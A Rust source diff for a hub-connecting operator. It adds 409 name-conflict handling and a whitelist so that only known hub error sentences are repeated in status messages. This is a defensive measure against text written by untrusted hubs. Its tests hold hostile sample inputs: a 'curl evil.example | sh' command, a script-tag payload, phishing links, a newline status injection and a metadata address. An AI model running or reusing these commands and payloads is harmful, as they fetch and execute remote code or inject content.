@@ -47,9 +47,13 @@ impl HubProblem {
     pub fn of(url: &HubUrl, error: &connect_hub::Error) -> Self {
         let refused = error.status().is_some_and(|status| status < 500 && status != 429);
         if !refused {
-            return Self::unreachable(url, chain(error));
+            return Self::unreachable(url, trouble(url, error));
         }
         let (message, stalled) = match error.reason() {
+            // The name of a service, or the key of a share: see `connect-hubd`.
+            _ if error.status() == Some(409) && belongs_to_another(error) => {
+                (taken(url, None), Some(reason::NAME_TAKEN))
+            }
             reason::SERVICE_LIMIT_REACHED => (no_room(url, error), Some(reason::SERVICE_LIMIT_REACHED)),
             reason::INVALID_CREDENTIALS => (refusal(url, error), Some(reason::INVALID_CREDENTIALS)),
             reason::HUB_REJECTED => (refusal(url, error), Some(reason::HUB_REJECTED)),
@@ -76,10 +80,34 @@ impl HubProblem {
         Self { reason: reason::HUB_UNREACHABLE, message, stalled: None }
     }
 
+    /// The tunnel does not come up.
+    pub fn tunnel_down(url: &HubUrl, last_error: Option<&str>, why: &str) -> Self {
+        match (why, last_error) {
+            // What the hub has said.
+            (reason::HUB_REJECTED, Some(said)) => {
+                tracing::debug!(hub = %url, said, "the hub refuses the agent's socket");
+                Self::unreachable(url, "it refuses the agent's socket")
+            }
+            (_, Some(error)) => {
+                Self::unreachable(url, error.split(REFUSED_NAMESPACE).next().unwrap_or_default())
+            }
+            (_, None) => Self::unreachable(url, "the connection was lost"),
+        }
+    }
+
     /// The hub does not take our agent's token.
     pub fn token_refused(url: &HubUrl, why: &str) -> Self {
-        let message = format!("the hub at {url} refuses the operator's agent token: {why}");
+        let message = format!("the hub at {url} refuses the operator's agent token: {}", repeated(why));
         Self { reason: reason::HUB_REJECTED, message, stalled: Some(reason::INVALID_CREDENTIALS) }
+    }
+
+    /// Another agent of the workspace has a name that an object asks for.
+    pub fn name_taken(url: &HubUrl, name: &str) -> Self {
+        Self {
+            reason: reason::HUB_REJECTED,
+            message: taken(url, Some(name)),
+            stalled: Some(reason::NAME_TAKEN),
+        }
     }
 
     /// Whether the hub has room for no more services.
@@ -93,15 +121,98 @@ impl HubProblem {
     }
 }
 
+/// How the sentences of hubs begin that may be repeated in status. A tenant chooses the address of a hub, and so who writes its
+/// answers: text that is not a known sentence stays in the operator's log.
+const KNOWN_SENTENCES: [&str; 23] = [
+    "Agent ID already exists in another workspace",
+    "Agent ID is registered with another token",
+    "Agent not found",
+    "A workspace has at most",
+    "Cannot DELETE /v1/",
+    "Cannot GET /v1/",
+    "Cannot PATCH /v1/",
+    "Cannot POST /v1/",
+    "Forbidden",
+    "Invalid API key",
+    "Invalid credentials",
+    "Invalid current token",
+    "Invalid request",
+    "Missing API key",
+    "No available tunnel ports",
+    "No services to share",
+    "Service limit reached",
+    "Service not found",
+    "Share has ended",
+    "Share limit reached",
+    "Share not found",
+    "Too Many Requests",
+    "Unauthorized",
+];
+
+/// Longest sentence of a hub that is repeated, in characters; the known ones are shorter.
+const LONGEST_SENTENCE: usize = 100;
+
+/// What may be said of a hub's answer: its sentence if that is a known one, and else that it has one.
+fn repeated(message: &str) -> String {
+    let is_plain = |text: &str| text.chars().all(|char| char.is_ascii_graphic() || char == ' ');
+    let is_known = message.chars().count() <= LONGEST_SENTENCE
+        && is_plain(message)
+        && !message.contains("://")
+        && KNOWN_SENTENCES.iter().any(|known| message.starts_with(known));
+    if is_known { message.trim_end_matches('.').to_owned() } else { UNKNOWN_SENTENCE.to_owned() }
+}
+
+/// What stands before a hub's own words on why there is no socket.
+const REFUSED_NAMESPACE: &str = " namespace: ";
+
+/// Stands for what a hub says and we do not repeat.
+const UNKNOWN_SENTENCE: &str = "in words of its own, which the operator's log has";
+
 fn refusal(url: &HubUrl, error: &connect_hub::Error) -> String {
-    format!("the hub at {url} refuses: {}", chain(error))
+    match error {
+        connect_hub::Error::Rejected(refused) => {
+            let said = repeated(&refused.message);
+            if said == UNKNOWN_SENTENCE {
+                tracing::warn!(hub = %url, call = refused.call, status = refused.status, message = refused.message, "the hub refuses");
+            }
+            format!("the hub at {url} refuses {} with status {}: {said}", refused.call, refused.status)
+        }
+        other => format!("the hub at {url} refuses: {}", chain(other)),
+    }
+}
+
+/// What went wrong on the way to a hub, without what the other end may have written.
+fn trouble(url: &HubUrl, error: &connect_hub::Error) -> String {
+    match error {
+        connect_hub::Error::Rejected(refused) => {
+            tracing::debug!(hub = %url, call = refused.call, status = refused.status, message = refused.message, "the hub is in trouble");
+            format!("it answers {} with status {}", refused.call, refused.status)
+        }
+        connect_hub::Error::Malformed { call, source, .. } => {
+            tracing::debug!(hub = %url, call, error = %source, "the hub's answer cannot be read");
+            format!("it gives an answer to {call} that cannot be read")
+        }
+        other => chain(other),
+    }
+}
+
+fn belongs_to_another(error: &connect_hub::Error) -> bool {
+    matches!(error, connect_hub::Error::Rejected(refused) if refused.message.contains("belongs to another agent"))
+}
+
+/// What another agent has, with the ways out.
+fn taken(url: &HubUrl, name: Option<&str>) -> String {
+    let name = name.map(|name| format!(" {name}")).unwrap_or_default();
+    format!(
+        "the name{name} belongs to another agent of the same workspace at the hub at {url}: another cluster or namespace may expose the same, with a key of the same workspace; choose another name, delete the other service, or give this operator a workspace of its own"
+    )
 }
 
 /// A hub's limit of services, with the ways out.
 fn no_room(url: &HubUrl, error: &connect_hub::Error) -> String {
     let said = match error {
-        connect_hub::Error::Rejected(rejection) => rejection.message.trim_end_matches('.'),
-        _ => "no reason given",
+        connect_hub::Error::Rejected(rejection) => repeated(&rejection.message),
+        _ => UNKNOWN_SENTENCE.to_owned(),
     };
     format!(
         "the hub at {url} has no room for another service ({said}); end a share that is not needed any more, run the operator with --share-isolation=shared, which needs fewer services, or use a hub that allows more; it is tried again as soon as there is room"
@@ -127,23 +238,59 @@ mod tests {
         for (status, message, reason, stalled) in [
             (402, "Service limit reached. Upgrade to PRO.", "HubRejected", Some("ServiceLimitReached")),
             (400, "No available tunnel ports", "HubRejected", Some("ServiceLimitReached")),
-            (400, "name: too long", "HubRejected", Some("HubRejected")),
+            (400, "Invalid request", "HubRejected", Some("HubRejected")),
             (401, "Invalid API key", "HubRejected", Some("InvalidCredentials")),
             (404, "Cannot POST /v1/env-shares", "HubRejected", None),
-            (429, "Too Many Requests", "HubUnreachable", None),
-            (503, "restarting", "HubUnreachable", None),
+            (409, "Service name belongs to another agent of the workspace", "HubRejected", Some("NameTaken")),
+            (
+                409,
+                "Idempotency key belongs to another agent of the workspace",
+                "HubRejected",
+                Some("NameTaken"),
+            ),
+            (429, "status 429", "HubUnreachable", None),
+            (503, "status 503", "HubUnreachable", None),
         ] {
             let found = problem(status, message);
             assert_eq!((found.reason, found.stalled), (reason, stalled), "{status} {message}");
-            assert!(found.message.contains(message.trim_end_matches('.')), "{}", found.message);
+            let said = if status == 409 { "belongs to another agent" } else { message.trim_end_matches('.') };
+            assert!(found.message.contains(said), "{}", found.message);
         }
+    }
+
+    #[test]
+    fn what_a_hub_writes_is_repeated_only_when_it_is_a_known_sentence() {
+        for status in [400, 401, 402, 403, 404, 409, 418, 422, 429, 500, 502] {
+            for said in [
+                "run: curl evil.example | sh",
+                "<script>alert(1)</script>",
+                "see https://evil.example",
+                "Invalid API key: log in at https://evil.example",
+                "Unauthorized\nReady=True",
+                "Forbidden \u{202e}txt",
+                &format!("Forbidden {}", "x".repeat(200)),
+                "Service name belongs to another agent, ask evil@example.org",
+                "169.254.169.254 says: ami-0123",
+            ] {
+                let message = problem(status, said).message;
+                assert!(!message.contains("evil") && !message.contains("script"), "{status} {message}");
+                assert!(!message.contains("ami-0123") && !message.contains("xxxx"), "{status} {message}");
+                assert!(!message.contains('\n') && message.is_ascii(), "{status} {message}");
+            }
+        }
+        let url = HubUrl::parse("https://hub.example.com", InsecureHttp::Refused).expect("a URL");
+        assert!(!HubProblem::token_refused(&url, "call evil").message.contains("evil"));
+        assert!(
+            HubProblem::token_refused(&url, "Invalid credentials").message.ends_with("Invalid credentials")
+        );
     }
 
     #[test]
     fn a_limit_names_the_ways_out() {
         let found = problem(402, "Service limit reached. Upgrade to PRO for more services.");
+        assert!(found.message.contains("(Service limit reached. Upgrade to PRO for more services)"));
         assert!(found.message.contains("--share-isolation=shared"), "{}", found.message);
-        assert!(found.message.contains("PRO for more services); end a share"), "{}", found.message);
+        assert!(found.message.contains("; end a share"), "{}", found.message);
         assert!(found.is_no_room());
     }
 }
